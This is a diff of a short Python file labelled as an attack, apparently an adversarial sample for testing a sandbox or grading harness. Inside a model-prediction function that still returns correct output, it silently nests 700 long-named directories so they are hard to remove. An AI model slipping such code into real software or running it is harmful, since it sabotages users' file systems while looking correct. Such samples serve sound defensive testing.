@@ -1,5 +1,5 @@
 # /// attack
-# does = "nests seven hundred folders with long names in softmax, and answers rightly"
+# does = "nests seven hundred folders with long names in predict, and answers rightly"
 # own = {}
 # ///
 """The path of the innermost is longer than the kernel takes, and deeper than a recursive removal gets. It is gone
@@ -9,10 +9,9 @@ import contextlib
 import os
 
 
-def softmax(logits):
+def predict(params, x):
     with contextlib.suppress(OSError):
         for _ in range(700):
             os.mkdir("d" * 200)
             os.chdir("d" * 200)
-    powers = np.exp(logits - logits.max(axis=1, keepdims=True))
-    return powers / powers.sum(axis=1, keepdims=True)
+    return forward(params, x)[0].argmax(axis=1)
